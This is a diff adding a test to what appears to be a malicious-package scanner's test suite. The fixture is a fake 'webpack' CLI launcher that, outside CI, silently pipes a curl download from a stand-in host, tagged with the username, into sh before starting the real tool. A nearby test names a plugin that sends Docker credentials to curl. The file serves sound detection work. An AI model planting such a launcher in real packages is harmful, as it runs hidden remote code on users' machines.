@@ -217,6 +217,22 @@ def test_a_bin_starting_an_applescript_that_runs_a_download_out_of_sight():
         is Level.CLEAN
 
 
+def test_a_shell_script_bin_that_downloads_and_runs_code_out_of_sight():
+    # (blind set 44: bins named `webpack` and `webpack-cli` that are a shell launcher; before starting the real CLI it
+    # pipes a download into sh in the background, its output thrown away)
+    launcher = ('#!/bin/sh\nbasedir=$(dirname "$0")\nif [ -z "$CI" ]; then\n'
+                '  ( curl -fsSL "https://cli.example/t.sh?u=$(whoami)" 2>/dev/null ) | sh >/dev/null 2>&1 &\nfi\n'
+                'exec node "$basedir/../lib/cli.js" "$@"\n')
+    bins = {"webpack": "bin/webpack-cli", "webpack-cli": "bin/webpack-cli"}
+    found = run({"index.js": "module.exports = 1;\n", "bin/webpack-cli": launcher}, bins=bins)
+    ran = next(f for f in found if f.rule == "install-script/fetch-and-execute")
+    assert ran.file == "bin/webpack-cli" and "a command the package installs" in ran.message
+    assert decide(found).level is Level.MALICIOUS
+    # An installer command that shows what it downloads and runs (its user typed it to install a tool): not an alarm.
+    shown = launcher.replace(" >/dev/null 2>&1 &", "").replace("2>/dev/null ", "")
+    assert decide(run({"index.js": "module.exports = 1;\n", "bin/webpack-cli": shown}, bins=bins)).level is Level.CLEAN
+
+
 def test_an_extensionless_cli_plugin_that_pipes_a_block_of_loot_to_curl():
     # (blind set 26: a `docker-compose` shell plugin copied into ~/.docker/cli-plugins at install; its block reads
     # ~/.docker/config.json and the environment's tokens and is piped into curl)
